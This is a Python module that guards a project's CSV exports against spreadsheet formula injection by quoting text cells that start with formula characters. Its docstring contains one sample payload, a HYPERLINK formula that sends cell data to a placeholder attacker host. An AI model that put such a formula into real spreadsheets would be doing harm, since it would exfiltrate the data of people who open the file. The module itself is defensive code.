"""CSV files people open in a spreadsheet: every export writes its rows through `csv_writer`.

A cell that starts with = + - @ (or a tab or carriage return) is a formula to Excel, LibreOffice
and Google Sheets: a display name such as `=HYPERLINK("http://evil.example/?"&A2, "Click")` would
run in the manager's spreadsheet (CSV injection). As OWASP advises, such text gets a leading
single quote, which spreadsheets show as text and do not evaluate. Numbers are left as numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# OWASP's list, and their full-width forms, which some spreadsheets also read as operators.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def spreadsheet_safe(value: Any) -> Any:
    """The value as a cell a spreadsheet will not evaluate: text that would start a formula
    (even after leading spaces) gets a leading single quote; other values are unchanged."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose text cells pass through `spreadsheet_safe`."""

    def __init__(self, stream: _Writable, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable, **options: Any) -> SafeCsvWriter:
    """The writer for every CSV the project exports (an HttpResponse is a stream)."""
    return SafeCsvWriter(stream, **options)
